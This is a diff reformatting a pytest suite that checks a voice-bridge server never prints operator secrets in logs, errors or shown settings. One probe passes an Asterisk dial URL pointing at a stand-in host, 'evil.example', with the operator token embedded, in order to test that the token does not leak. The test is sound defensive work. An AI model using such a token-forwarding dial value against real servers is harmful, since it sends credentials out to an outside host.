@@ -1,4 +1,4 @@
-"""No secret of the operator is ever printed: not in a log at its most talkative, not in an error, not in the metrics."""
+"""No secret of the operator is ever printed: not in the most talkative log, and not in an error."""
 
 from __future__ import annotations
 
@@ -25,12 +25,23 @@ pytestmark = pytest.mark.slow
 TOKEN = "tok3n-0f-the-0perat0r"
 WRONG = "wr0ng-t0ken-0f-a-str4nger"
 SECRETS = {
-    "twilio": {"auth_token": "tw1lio-s3cret"}, "plivo": {"auth_token": "pl1vo-s3cret"},
-    "vonage": {"signature_secret": "v0nage-s3cret"}, "genesys": {"api_key": "gen-k3y", "client_secret": "Z2VuLXMzY3JldA=="},
+    "twilio": {"auth_token": "tw1lio-s3cret"},
+    "plivo": {"auth_token": "pl1vo-s3cret"},
+    "vonage": {"signature_secret": "v0nage-s3cret"},
+    "genesys": {"api_key": "gen-k3y", "client_secret": "Z2VuLXMzY3JldA=="},
     "bot": {"url": "ws://127.0.0.1:9/bot?key=b0t-url-s3cret", "token": "b0t-t0ken"},
     "asterisk": {"dial": ["ws://127.0.0.1:9/media/"]},
-}  # fmt: skip
-HIDDEN = (TOKEN, WRONG, "tw1lio-s3cret", "pl1vo-s3cret", "v0nage-s3cret", "Z2VuLXMzY3JldA==", "b0t-url-s3cret", "b0t-t0ken")
+}
+HIDDEN = (
+    TOKEN,
+    WRONG,
+    "tw1lio-s3cret",
+    "pl1vo-s3cret",
+    "v0nage-s3cret",
+    "Z2VuLXMzY3JldA==",
+    "b0t-url-s3cret",
+    "b0t-t0ken",
+)
 
 
 async def _everywhere(port: int) -> None:
@@ -38,17 +49,24 @@ async def _everywhere(port: int) -> None:
     for token in (TOKEN, WRONG):
         bearer = {"Authorization": f"Bearer {token}"}
         for path, headers in (
-            ("/v1/stream?audio=none", bearer), (f"/v1/stream?audio=none&token={token}", {}),
-            (f"/v1/stream?audio=none&token={token}&codec=wrong", {}), (f"/v1/stream?token={token}{'x' * 3_000}", {}),
-            (f"/v1/speak?api_key={token}", {}), ("/v1/speak", {"Sec-WebSocket-Protocol": f"token, {token}"}),
-            ("/v1/text-to-speech/x/stream-input", {"xi-api-key": token}), ("/tts/websocket", {"X-API-Key": token}),
-            (f"/tts/websocket?api_key={token}", {}), ("/api-ws/v1/inference", {"Authorization": f"bearer {token}"}),
-            ("/media/native", bearer), ("/media/twilio", {"X-Twilio-Signature": token}), ("/media/vonage", bearer),
+            ("/v1/stream?audio=none", bearer),
+            (f"/v1/stream?audio=none&token={token}", {}),
+            (f"/v1/stream?audio=none&token={token}&codec=wrong", {}),
+            (f"/v1/stream?token={token}{'x' * 3_000}", {}),
+            (f"/v1/speak?api_key={token}", {}),
+            ("/v1/speak", {"Sec-WebSocket-Protocol": f"token, {token}"}),
+            ("/v1/text-to-speech/x/stream-input", {"xi-api-key": token}),
+            ("/tts/websocket", {"X-API-Key": token}),
+            (f"/tts/websocket?api_key={token}", {}),
+            ("/api-ws/v1/inference", {"Authorization": f"bearer {token}"}),
+            ("/media/native", bearer),
+            ("/media/twilio", {"X-Twilio-Signature": token}),
+            ("/media/vonage", bearer),
             ("/media/genesys", {"X-API-KEY": token, "Signature": token, "Signature-Input": token}),
             (f"/media/asterisk?dial={quote(f'ws://127.0.0.1:9/media/{token}', safe='')}", bearer),
             (f"/media/asterisk?dial={quote(f'ws://evil.example/{token}', safe='')}", bearer),
             (f"/no/such/path?token={token}", bearer),
-        ):  # fmt: skip
+        ):
             try:
                 async with connect(f"ws://127.0.0.1:{port}{path}", additional_headers=headers, proxy=None) as socket:
                     await socket.send('{"type":"say","text":"Hi."}')
@@ -76,10 +94,13 @@ def _wait_until_ready(port: int) -> None:
 
 def _over_http(port: int, token: str) -> None:
     for path, headers in (
-        (f"/metrics?token={token}", {}), ("/metrics", {"Authorization": f"Basic {token}"}),
-        (f"/v1/voices?api_key={token}", {}), ("/v1/audio/speech", {"Authorization": f"Bearer {token}"}),
-        (f"/calls/{token}/v1/speak?api_key={token}&x=%ff", {}), ("/docs", {"Cookie": token}),
-    ):  # fmt: skip
+        (f"/metrics?token={token}", {}),
+        ("/metrics", {"Authorization": f"Basic {token}"}),
+        (f"/v1/voices?api_key={token}", {}),
+        ("/v1/audio/speech", {"Authorization": f"Bearer {token}"}),
+        (f"/calls/{token}/v1/speak?api_key={token}&x=%ff", {}),
+        ("/docs", {"Cookie": token}),
+    ):
         request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", headers=headers)
         try:
             urllib.request.urlopen(request, timeout=3).close()
@@ -89,7 +110,11 @@ def _over_http(port: int, token: str) -> None:
 
 @pytest.mark.parametrize("form", ["json", "text"])
 def test_a_talkative_server_prints_no_secret(form: str, tmp_path: Path) -> None:
-    settings = {"server": {"tokens": [TOKEN], "metrics_without_token": False}, **SECRETS, "log": {"level": "debug", "format": form}}
+    settings = {
+        "server": {"tokens": [TOKEN], "metrics_without_token": False},
+        **SECRETS,
+        "log": {"level": "debug", "format": form},
+    }
     (tmp_path / "config.yaml").write_text(json.dumps(settings))
     log = tmp_path / "log"
     with process("--config", str(tmp_path / "config.yaml"), log=log) as (served, port):
@@ -107,8 +132,15 @@ def test_no_secret_is_in_the_settings_as_they_are_shown(tmp_path: Path) -> None:
     file.write_text(json.dumps({**SECRETS, "server": {"tokens": [TOKEN]}, "engines": {"remote": {"token": WRONG}}}))
     shown = repr(config.load(str(file), environ={}))
     assert not [secret for secret in HIDDEN if secret in shown]
-    file.write_text(json.dumps({"server": {"token": TOKEN, "url": f"ws://x/?key={WRONG}"}, "ari": {"password": "b0t-t0ken"},
-                                "freeswitch": {"password": "tw1lio-s3cret"}}))  # fmt: skip
+    file.write_text(
+        json.dumps(
+            {
+                "server": {"token": TOKEN, "url": f"ws://x/?key={WRONG}"},
+                "ari": {"password": "b0t-t0ken"},
+                "freeswitch": {"password": "tw1lio-s3cret"},
+            }
+        )
+    )
     shown = repr(bridge_config.load(str(file), environ={}))
     assert not [secret for secret in HIDDEN if secret in shown]
 
@@ -116,7 +148,13 @@ def test_no_secret_is_in_the_settings_as_they_are_shown(tmp_path: Path) -> None:
 @pytest.mark.parametrize("wrong", [[TOKEN], {"a": TOKEN}, 7])
 def test_a_secret_of_the_wrong_form_is_not_quoted(wrong: object, tmp_path: Path) -> None:
     file = tmp_path / "config.yaml"
-    for section, key in (("twilio", "auth_token"), ("bot", "token"), ("bot", "url"), ("genesys", "client_secret"), ("server", "tokens")):
+    for section, key in (
+        ("twilio", "auth_token"),
+        ("bot", "token"),
+        ("bot", "url"),
+        ("genesys", "client_secret"),
+        ("server", "tokens"),
+    ):
         file.write_text(json.dumps({section: {key: {"x": [wrong]}}}))
         with pytest.raises(ConfigError) as error:
             config.load(str(file), environ={})
